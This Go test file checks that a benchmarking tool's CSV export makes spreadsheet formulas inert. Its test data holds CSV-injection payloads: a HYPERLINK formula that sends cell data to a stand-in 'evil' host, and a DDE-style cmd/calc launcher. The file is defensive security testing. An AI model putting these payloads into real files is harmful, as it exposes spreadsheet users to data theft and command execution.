package main

import (
	"context"
	"encoding/csv"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/edgebench/edgebench/internal/testenv"
	"github.com/edgebench/edgebench/wire"
)

// TestExportCSVFormulasInert: a device whose board, server label, run
// label and reason begin with =, +, -, @, a tab or a carriage return gets
// them into `export --format csv` as text a spreadsheet does not run
// (OWASP's CSV injection advice: a single quote before, the cell quoted),
// and a reader of the CSV still finds every other cell where it belongs.
func TestExportCSVFormulasInert(t *testing.T) {
	bin := testenv.Binary(t, ".")
	p := startServe(t, bin)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	d := p.device("pi-1", "one")

	r := fakeWire("lab", "pi-1", `=HYPERLINK("http://evil/?"&A1,"x")`, 1000, 800, "")
	r.Fingerprint.Board = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Labels["rack"] = "+1+1"
	r.Labels["zone"] = "\t=1+1"
	r.Outcome, r.Reason = wire.StateFailed, "-2+3;=1+1"
	if err := d.PublishResult(ctx, r); err != nil {
		t.Fatal(err)
	}
	if err := d.WaitAck(ctx, r.ID); err != nil {
		t.Fatalf("not acked: %v\n%s", err, p.out.String())
	}
	out, err := exec.CommandContext(ctx, bin, "export", "--db", p.db, "--format", "csv").Output()
	if err != nil {
		t.Fatalf("export: %v", err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(out))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("export csv: %d records, %v:\n%s", len(recs), err, out)
	}
	col := map[string]string{}
	for i, h := range recs[0] {
		col[h] = recs[1][i]
	}
	for name, want := range map[string]string{
		"server":  `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"board":   "'@SUM(1+1)*cmd|' /C calc'!A0",
		"reason":  "'-2+3;=1+1",
		"device":  "pi-1",
		"outcome": "failed",
		"runs":    "1",
	} {
		if col[name] != want {
			t.Errorf("%s = %q, want %q", name, col[name], want)
		}
	}
	if !strings.Contains(col["labels"], "+1+1") {
		t.Errorf("labels = %q lacks the rack label", col["labels"])
	}
	// Every cell of text the device sent, whatever its column, begins with
	// none of the characters a spreadsheet takes for a formula.
	for i, c := range recs[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("column %s begins with %q: %q", recs[0][i], c[0], c)
		}
	}
	// and every such cell is quoted in the file itself.
	line := strings.SplitN(string(out), "\n", 2)[1]
	for _, raw := range []string{`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`, `"'@SUM(1+1)*cmd|' /C calc'!A0"`, `"'-2+3;=1+1"`} {
		if !strings.Contains(line, raw) {
			t.Errorf("the row lacks %s:\n%s", raw, line)
		}
	}
}
